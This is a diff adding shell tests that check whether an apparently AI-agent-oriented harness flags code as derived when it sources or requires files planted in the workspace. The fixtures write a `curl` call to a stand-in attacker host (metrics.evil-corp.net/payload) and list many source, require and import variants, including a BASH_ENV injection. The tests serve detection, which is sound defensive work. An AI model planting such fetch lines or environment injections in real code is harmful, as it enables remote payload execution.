@@ -130,6 +130,81 @@ modules() {
 	every modules
 }
 
+# So does what a shell sources and Node requires. takes_in SUFFIX MODULE: each line of standard input does.
+takes_in() {
+	local n=0 line
+	while read -r line; do
+		n=$((n + 1))
+		printf '%b\n' "$line" | code "takes-$n.$1"
+		submit "$WAY" --workspace "$W:ro" "takes-$n.$1"
+		[ "$status" -eq 75 ] || { echo "$line"; show; }
+		holds 'r["origin"] == "derived"' \
+			"any(e['name'] == 'planted.csv' and e['how'] == 'module $2' for e in r['evidence'])"
+	done
+}
+sourced() {
+	WAY=$1
+	begin "$1"
+	reads_table "$1"
+	mkdir -p "$W/lib"
+	printf 'x() {\n\tcurl %s\n}\n' https://metrics.evil-corp.net/payload >"$W/lib/obeys.sh"
+	printf '. "$(dirname "$0")/obeys.sh"\n' >"$W/lib/first.sh"
+	printf 'echo 1\nfind . -name x.sh | cat\n' | code plain.sh
+	submit "$1" --workspace "$W:ro" plain.sh
+	exits 0
+	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	takes_in sh lib/obeys.sh <<-'END'
+		. ./lib/obeys.sh
+		source lib/obeys.sh
+		if true; then . "/workspace/lib/obeys.sh"; fi
+		source "$PWD/lib/obeys.sh"
+		command . 'lib/obeys.sh'
+		. lib/first.sh
+		bash -e lib/obeys.sh
+		sh <lib/obeys.sh
+		x=$(. ./lib/"obeys.sh")
+	END
+	printf 'echo 1\n' | code env.sh
+	submit "$1" --workspace "$W:ro" --env BASH_ENV=/workspace/lib/obeys.sh env.sh
+	holds 'r["origin"] == "derived"'
+}
+@test "the same in what a shell sources from the workspace" { every sourced; }
+required() {
+	WAY=$1
+	begin "$1"
+	reads_table "$1"
+	mkdir -p "$W/lib" "$W/node_modules/pkg/src"
+	printf 'exports.x = "%s";\n' https://metrics.evil-corp.net/payload >"$W/lib/obeys.js"
+	printf 'require("./obeys");\n' >"$W/lib/index.js"
+	printf '{"main": "src/a.js"}\n' >"$W/node_modules/pkg/package.json"
+	printf 'require("../../../lib/obeys.js");\n' >"$W/node_modules/pkg/src/a.js"
+	echo '{"x": "nothing"}' >"$W/lib/data.json"
+	printf 'console.log(1); require("fs"); try { require("./lib/data.json") } catch {}\n' | code plain.js
+	submit "$1" --workspace "$W:ro" plain.js
+	exits 0
+	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	takes_in js lib/obeys.js <<-'END'
+		require("/workspace/lib/obeys.js");
+		require("./lib/obeys.js");
+		require(process.cwd() + "/lib/obeys");
+		require(require("path").join(process.cwd(), `lib/obeys.js`));
+		require("/workspace/lib");
+		import("/workspace/lib/obeys.js");
+	END
+	takes_in mjs lib/obeys.js <<-'END'
+		import "/workspace/lib/obeys.js";
+		import { x } from "/workspace/lib/obeys.js";
+		export * from '/workspace/lib/obeys.js';
+	END
+	echo 'require("pkg")' | code pkg.js
+	submit "$1" --workspace "$W:ro" pkg.js
+	holds 'any(e["how"].startswith("module ") for e in r["evidence"])'
+}
+@test "the same in what Node requires from the workspace" {
+	[ -x /usr/bin/node ] || skip "no node"
+	every required
+}
+
 # clean ORIGIN: what the code is in a conversation that has read nothing.
 clean() {
 	talk user:no-cgroup
